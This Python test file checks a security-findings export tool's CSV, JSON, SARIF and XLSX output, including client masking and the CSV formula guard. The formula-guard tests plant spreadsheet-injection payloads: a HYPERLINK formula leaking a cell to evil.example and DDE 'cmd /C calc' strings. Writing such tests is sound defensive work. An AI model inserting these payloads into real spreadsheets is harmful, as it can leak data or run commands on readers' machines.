"""`commplan findings export`: the findings register as CSV, JSON, SARIF (and XLSX's terminal
rule), read back by outside parsers.

CSV, for every example in en and zh: Python's csv module reads it back; the UTF-8 byte order
mark is there by default and not with --no-bom; every record ends with CRLF and the quoting is
RFC 4180's (csv.writer with CRLF rewrites the rows to the same bytes); the header row is the
register's columns in the page's language; one row per finding found by --date, good practices
left out (counted apart from commplan, from the project file and its log_dir); Chinese text
comes back intact. A copy of an example with planted titles checks the formula guard
(`=HYPERLINK(...)`, `-2+3`, `@SUM(1)`, a leading tab: each read back with a `'` before it) and
the register fields (CVSS, CWE, affected, references, due, re-test).

JSON: the register's view model, with the same findings in the same order as the CSV.

SARIF: validated against the official SARIF 2.1.0 schema, shipped in tests/data (its origin in
tests/data/README.md), with python3-jsonschema; a rule and a result per finding, levels from the
severities.

For the client (--audience client): no internal finding, and a card number masked (shown
with --no-mask), in CSV, JSON and SARIF.

XLSX: refused on a terminal (a pseudo-terminal as standard output: exit 2), not refused on a
pipe.

Usage: test_findings_export.py COMMPLAN_BINARY SOURCE_DIR
"""

import csv
import glob
import io
import json
import os
import pty
import shutil
import subprocess
import sys
import tempfile

import jsonschema
import yaml

from commplan_test import Yaml12Loader, fail, report

BOM = b"\xef\xbb\xbf"
EXAMPLES = ["datacentre-assessment.yaml", "penetration-test.json", "software-delivery.zh.yaml"]
HEADERS = {"en": ["ID", "Title", "Severity", "Status"], "zh": ["编号", "问题", "严重程度", "状态"]}
CARD = "4111 1111 1111 1111"
PLANTED = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-2+3", "@SUM(1)",
           "\tcmd /c calc", "+1"]


def export(binary, project, *args, check=True):
    """The bytes `findings export PROJECT ARGS` prints (a non-zero exit is a failure)."""
    done = subprocess.run([binary, "findings", "export", project, *args], capture_output=True,
                          env={"PATH": "/usr/bin:/bin"})
    if check and done.returncode != 0:
        fail(f"findings export {project} {' '.join(args)}: exit {done.returncode}: "
             f"{done.stderr.decode(errors='replace')}")
    return done


def load(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f) if path.endswith(".json") else yaml.load(f, Loader=Yaml12Loader)


def expected_ids(path, day):
    """The ids the register of `path` has on `day`, worked out here: the file's findings, then
    its log_dir's, found by the day (or undated), good practices left out."""
    data = load(path)
    findings = list(data.get("findings") or [])
    if data.get("log_dir"):
        folder = os.path.join(os.path.dirname(path), data["log_dir"])
        for log in sorted(glob.glob(os.path.join(folder, "**", "*.yaml"), recursive=True)):
            findings += (load(log) or {}).get("findings") or []
    return [f["id"] for f in findings
            if not f.get("good_practice") and (not f.get("found") or str(f["found"]) <= day)]


def read_csv(name, raw, bom=True):
    """The rows of a CSV export, its encoding and line ends checked."""
    if raw.startswith(BOM) != bom:
        fail(f"{name}: byte order mark {'missing' if bom else 'present with --no-bom'}")
    text = raw.decode("utf-8-sig" if bom else "utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n").writerows(rows)
    if again.getvalue() != text:
        fail(f"{name}: not RFC 4180 with CRLF line ends (csv.writer gives other bytes)")
    if not text.endswith("\r\n"):
        fail(f"{name}: the last record does not end with CRLF")
    return rows


def check_examples(binary, source):
    for example in EXAMPLES:
        path = os.path.join(source, "examples", example)
        data = load(path)
        day = str(data["project"]["end"])
        ids = expected_ids(path, day)
        for lang in ("en", "zh"):
            name = f"{example} ({lang})"
            raw = export(binary, path, "--lang", lang, "--date", day).stdout
            rows = read_csv(name, raw)
            if rows[0][:4] != HEADERS[lang] or len(rows[0]) != 22:
                fail(f"{name}: header row {rows[0][:4]}…")
            if [row[0] for row in rows[1:]] != ids:
                fail(f"{name}: rows {[row[0] for row in rows[1:]]}, expected {ids}")
            titles = {f["id"]: f["title"] for f in data.get("findings") or []}
            for row in rows[1:]:
                if row[0] in titles and row[1] != titles[row[0]]:
                    fail(f"{name}: {row[0]} title {row[1]!r}, expected {titles[row[0]]!r}")
            plain = export(binary, path, "--lang", lang, "--date", day, "--no-bom").stdout
            if read_csv(name + " --no-bom", plain, bom=False) != rows:
                fail(f"{name}: --no-bom changes more than the byte order mark")
            view = json.loads(export(binary, path, "--lang", lang, "--date", day,
                                     "--format", "json").stdout)
            if view.get("kind") != "commplan/register" or \
                    [f["id"] for f in view["findings"]] != ids:
                fail(f"{name}: JSON view kind {view.get('kind')}, findings differ from {ids}")
            if [c["label"] for c in view["columns"]] != rows[0]:
                fail(f"{name}: the JSON view's column labels are not the CSV header")


def planted_project(source, folder):
    """A copy of the penetration-test example with findings that carry formulas and every
    register field."""
    data = load(os.path.join(source, "examples", "penetration-test.json"))
    for i, title in enumerate(PLANTED):
        data["findings"].append({"id": f"X-{i + 1}", "title": title, "found": "2027-05-12",
                                 "severity": "low", "owner": "=cmd|' /C calc'!A0"})
    data["findings"].append({
        "id": "X-9", "title": "跨站脚本：搜索框", "found": "2027-05-12", "severity": "critical",
        "status": "agreed", "cvss": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        "cwe": "CWE-79", "affected": ["https://portal.example/search?q={x}", "web01",
                                      "src/app/search.ts"],
        "references": ["https://owasp.org/www-community/attacks/xss/", "RFC 6265"],
        "due": "2027-05-20",
        "retest": {"date": "2027-05-13", "result": "partial", "note": "Reflected, not stored"},
        "fingerprint": "f00d", "evidence": "Line one\nline \"two\", with a comma"})
    data["findings"].append({"id": "X-10", "title": "Found later", "found": "2027-05-14"})
    data["findings"].append({"id": "X-11", "title": "Card in a log", "found": "2027-05-12",
                             "evidence": f"The log shows {CARD} in clear."})
    data["findings"].append({"id": "X-12", "title": "Ours only", "found": "2027-05-12",
                             "internal": True})
    path = os.path.join(folder, "planted.json")
    with open(path, "w", encoding="utf-8") as f:
        json.dump(data, f, ensure_ascii=False)
    return path


def check_planted(binary, path):
    rows = read_csv("planted", export(binary, path, "--date", "2027-05-13").stdout)
    by_id = {row[0]: row for row in rows[1:]}
    for i, title in enumerate(PLANTED):
        row = by_id.get(f"X-{i + 1}")
        if row is None or row[1] != "'" + title:
            fail(f"planted X-{i + 1}: title cell {row and row[1]!r}, expected {chr(39) + title!r}")
        elif row[10] != "'=cmd|' /C calc'!A0":
            fail(f"planted X-{i + 1}: owner cell {row[10]!r} is not guarded")
    if "X-10" in by_id:
        fail("planted: a finding found after --date is in the register")
    if "PT-06" in by_id:
        fail("planted: the good practice PT-06 is in the register")
    row = by_id.get("X-9")
    expected = ["X-9", "跨站脚本：搜索框", "Critical", "Agreed",
                "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "9.8", "CWE-79", "", "2027-05-12",
                "2027-05-20", "",
                "https://portal.example/search?q={x}\nweb01\nsrc/app/search.ts", "",
                "Line one\nline \"two\", with a comma", "", "",
                "https://owasp.org/www-community/attacks/xss/\nRFC 6265", "", "2027-05-13",
                "Partly fixed", "Reflected, not stored", "f00d"]
    if row != expected:
        fail(f"planted X-9: row {row}")
    earlier = read_csv("planted", export(binary, path, "--date", "2027-05-12").stdout)
    row = {r[0]: r for r in earlier[1:]}.get("X-9")
    if row is None or row[18:21] != ["", "", ""]:
        fail(f"planted X-9 on 2027-05-12: a re-test of 2027-05-13 shows: {row and row[18:21]}")
    zh = read_csv("planted zh", export(binary, path, "--date", "2027-05-13", "--lang",
                                       "zh").stdout)
    row = {r[0]: r for r in zh[1:]}.get("X-9")
    if row is None or row[2] != "严重" or row[3] != "已认可" or row[19] != "部分修复":
        fail(f"planted X-9 (zh): labels {row and row[2:4]} {row and row[19]}")


def check_sarif(binary, source, path):
    with open(os.path.join(source, "tests", "data", "sarif-schema-2.1.0.json"),
              encoding="utf-8") as f:
        schema = json.load(f)
    validator = jsonschema.Draft4Validator(schema)
    projects = [os.path.join(source, "examples", e) for e in EXAMPLES] + [path]
    for project in projects:
        day = str(load(project)["project"]["end"])
        for lang in ("en", "zh"):
            name = f"{os.path.basename(project)} ({lang}) sarif"
            raw = export(binary, project, "--format", "sarif", "--lang", lang,
                         "--date", day).stdout
            log = json.loads(raw)
            for error in validator.iter_errors(log):
                fail(f"{name}: {'/'.join(map(str, error.absolute_path))}: {error.message}")
            if raw != export(binary, project, "--format", "sarif", "--lang", lang,
                             "--date", day).stdout:
                fail(f"{name}: two runs differ")
            run = log["runs"][0]
            ids = expected_ids(project, day)
            if [r["ruleId"] for r in run["results"]] != ids or \
                    [r["id"] for r in run["tool"]["driver"]["rules"]] != ids:
                fail(f"{name}: results or rules are not the findings {ids}")
    log = json.loads(export(binary, path, "--format", "sarif", "--date", "2027-05-14").stdout)
    results = {r["ruleId"]: r for r in log["runs"][0]["results"]}
    x9 = results["X-9"]
    if x9["level"] != "error" or x9["properties"]["security-severity"] != "9.8" or \
            x9["properties"]["cvss_score"] != 9.8 or x9["partialFingerprints"] != {
                "commplan/v1": "f00d"}:
        fail(f"sarif X-9: {x9}")
    uris = [loc.get("physicalLocation", {}).get("artifactLocation", {}).get("uri")
            for loc in x9["locations"]]
    names = [loc.get("logicalLocations", [{}])[0].get("name") for loc in x9["locations"]]
    if uris != [None, None, "src/app/search.ts"] or \
            names[:2] != ["https://portal.example/search?q={x}", "web01"]:
        fail(f"sarif X-9 locations: {x9['locations']}")
    if results["PT-03"]["level"] != "warning" or results["X-1"]["level"] != "note":
        fail("sarif: levels of medium and low findings")


def check_client(binary, path):
    """For the client: no internal finding, sensitive data masked unless --no-mask."""
    for fmt in ("csv", "json", "sarif"):
        args = ["--date", "2027-05-14", "--format", fmt]
        team = export(binary, path, *args).stdout.decode()
        client = export(binary, path, *args, "--audience", "client").stdout.decode()
        shown = export(binary, path, *args, "--audience", "client", "--no-mask").stdout.decode()
        if CARD not in team or CARD not in shown or CARD in client:
            fail(f"{fmt}: the card number is not masked for the client alone")
        if "X-12" not in team or "X-12" in client:
            fail(f"{fmt}: the internal finding X-12 is not left out for the client alone")


def check_xlsx_terminal(binary, path):
    main, child = pty.openpty()
    try:
        done = subprocess.run([binary, "findings", "export", path, "--format", "xlsx"],
                              stdout=child, stderr=subprocess.PIPE, env={"PATH": "/usr/bin:/bin"})
    finally:
        os.close(child)
        os.close(main)
    if done.returncode != 2 or b"terminal" not in done.stderr:
        fail(f"xlsx to a terminal: exit {done.returncode}, {done.stderr!r}")
    piped = export(binary, path, "--format", "xlsx", "--date", "2027-05-14", check=False)
    if piped.returncode == 2:
        fail(f"xlsx to a pipe refused: {piped.stderr!r}")
    elif piped.returncode == 0 and not piped.stdout.startswith(b"PK"):
        fail("xlsx to a pipe: not a zip file")


def main():
    binary, source = sys.argv[1], sys.argv[2]
    folder = tempfile.mkdtemp(prefix="commplan-export-")
    try:
        check_examples(binary, source)
        path = planted_project(source, folder)
        check_planted(binary, path)
        check_sarif(binary, source, path)
        check_client(binary, path)
        check_xlsx_terminal(binary, path)
    finally:
        shutil.rmtree(folder)
    return report("findings export: CSV, JSON and SARIF of every example in en and zh")


if __name__ == "__main__":
    sys.exit(main())
